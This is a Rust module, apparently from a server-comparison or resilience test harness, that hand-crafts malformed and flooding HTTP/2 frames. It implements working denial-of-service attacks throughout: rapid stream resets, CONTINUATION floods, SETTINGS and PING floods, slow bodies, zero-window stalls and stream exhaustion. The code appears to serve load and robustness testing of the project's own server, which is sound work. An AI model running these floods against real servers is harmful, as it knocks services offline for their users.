//! Attacks over HTTP/2, with frames that no library would send.

use std::io::{self, ErrorKind, Read, Write};
use std::net::TcpStream;
use std::thread;
use std::time::{Duration, Instant};

use rustls::ClientConnection;

use super::attack::Attack;
use crate::compare::server::{APP_ID, APP_KEY, APP_SECRET};
use crate::pusher::Credentials;

/// What ALPN calls it.
pub(super) const ALPN: &[u8] = b"h2";

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Requests that one connection has open.
const STREAMS: u32 = 100;
/// The largest id of a stream that is asked for: with more, another connection begins.
const LAST_STREAM: u32 = i32::MAX as u32 - 2 * STREAMS;
/// Bytes that are sealed at a time.
const BATCH_BYTES: usize = 32 << 10;
/// Between two bytes of a body.
const SLOWLY: Duration = Duration::from_secs(1);
const IDLE: Duration = Duration::from_millis(1);

/// Attacks over a connection whose handshake is done until the attack is over, or the server has ended it; reports how.
pub(super) fn attack(
    attack: Attack,
    stream: &mut TcpStream,
    tls: &mut ClientConnection,
    is_over: impl Fn() -> bool,
) -> String {
    let mut hostile = Hostile { attack, next: 1 };
    match run(&mut hostile, stream, tls, is_over) {
        Ok(end) => end.into(),
        Err(error) => error.kind().to_string(),
    }
}

fn run(
    hostile: &mut Hostile,
    stream: &mut TcpStream,
    tls: &mut ClientConnection,
    is_over: impl Fn() -> bool,
) -> io::Result<&'static str> {
    stream.set_nonblocking(true)?;
    tls.writer().write_all(&hostile.beginning())?;
    let mut due = Instant::now();
    let mut opened = vec![0; 64 << 10];
    while !is_over() {
        let mut is_idle = true;
        while tls.wants_write() {
            match tls.write_tls(stream) {
                Ok(_) => is_idle = false,
                Err(error) if error.kind() == ErrorKind::WouldBlock => break,
                Err(error) => return Err(error),
            }
        }
        match tls.read_tls(stream) {
            Ok(0) => return Ok("ended by the server"),
            Ok(_) => {
                is_idle = false;
                let state = tls.process_new_packets().map_err(io::Error::other)?;
                if state.peer_has_closed() {
                    return Ok("ended by the server");
                }
                // What is answered is read, and of no interest.
                while matches!(tls.reader().read(&mut opened), Ok(size) if size > 0) {}
            }
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            Err(error) => return Err(error),
        }
        if !tls.wants_write() && Instant::now() >= due {
            let Some(more) = hostile.more() else {
                return Ok("used up");
            };
            tls.writer().write_all(&more)?;
            if hostile.attack.holds() {
                due = Instant::now() + SLOWLY;
            }
        } else if is_idle {
            thread::sleep(IDLE);
        }
    }
    Ok("open to the end")
}

/// What is sent over one connection.
struct Hostile {
    attack: Attack,
    /// The id of the next stream.
    next: u32,
}

impl Hostile {
    fn beginning(&mut self) -> Vec<u8> {
        let mut bytes = PREFACE.to_vec();
        let settings: &[u8] = match self.attack {
            // No bytes may be sent of any answer (SETTINGS_INITIAL_WINDOW_SIZE).
            Attack::Http2NoWindow => b"\x00\x04\x00\x00\x00\x00",
            _ => b"",
        };
        bytes.extend(frame(SETTINGS, 0, 0, settings));
        match self.attack {
            Attack::Http2Continuation => {
                bytes.extend(frame(HEADERS, END_STREAM, 1, b""));
            }
            Attack::Http2SlowBodies => {
                let head = signed_publish();
                for _ in 0..STREAMS {
                    bytes.extend(frame(HEADERS, END_HEADERS, self.stream(), &head));
                }
            }
            Attack::Http2NoWindow => {
                for _ in 0..STREAMS {
                    let stream = self.stream();
                    bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &get_up()));
                }
            }
            _ => {}
        }
        bytes
    }

    /// What is sent next; None if the connection is used up.
    fn more(&mut self) -> Option<Vec<u8>> {
        if self.next > LAST_STREAM {
            return None;
        }
        Some(match self.attack {
            Attack::Http2Resets => {
                let mut bytes = Vec::new();
                for _ in 0..STREAMS / 2 {
                    let stream = self.stream();
                    bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &get_up()));
                    bytes.extend(frame(RESET, 0, stream, &8_u32.to_be_bytes()));
                }
                bytes
            }
            Attack::Http2Continuation => {
                // A field that nobody knows, with a value that is not put into the table.
                let mut field = b"\x00\x01x\x7f\xe1\x01".to_vec();
                field.resize(field.len() + 352, b'x');
                repeated(&frame(CONTINUATION, 0, 1, &field))
            }
            Attack::Http2Settings => repeated(&frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff")),
            Attack::Http2Pings => repeated(&frame(PING, 0, 0, b"12345678")),
            Attack::Http2SlowBodies => (0..STREAMS)
                .flat_map(|index| frame(DATA, 0, 2 * index + 1, b"x"))
                .collect(),
            Attack::Http2Streams => (0..STREAMS)
                .flat_map(|_| {
                    let stream = self.stream();
                    frame(HEADERS, END_HEADERS | END_STREAM, stream, &get_up())
                })
                .collect(),
            _ => Vec::new(),
        })
    }

    fn stream(&mut self) -> u32 {
        let stream = self.next;
        self.next += 2;
        stream
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    // Payloads are far shorter than 16 MiB.
    let length = (payload.len() as u32).to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// `GET /up` in HPACK.
fn get_up() -> Vec<u8> {
    head(b"\x82", "/up")
}

/// A publish that is taken, as far as its head says.
fn signed_publish() -> Vec<u8> {
    let credentials = Credentials {
        app_id: APP_ID.into(),
        key: APP_KEY.into(),
        secret: APP_SECRET.into(),
    };
    head(b"\x83", &credentials.signed_path("/events", b"never"))
}

/// A method of HPACK's static table, `https`, and a path.
fn head(method: &[u8], path: &str) -> Vec<u8> {
    let mut head = [method, b"\x87\x04"].concat();
    // The length as an integer of 7 bits and more (RFC 7541, 5.1).
    let mut rest = path.len();
    if rest < 127 {
        head.push(rest as u8);
    } else {
        head.push(127);
        rest -= 127;
        while rest >= 128 {
            head.push((rest % 128 + 128) as u8);
            rest /= 128;
        }
        head.push(rest as u8);
    }
    head.extend(path.as_bytes());
    head
}

fn repeated(bytes: &[u8]) -> Vec<u8> {
    bytes.repeat((BATCH_BYTES / bytes.len()).max(1))
}
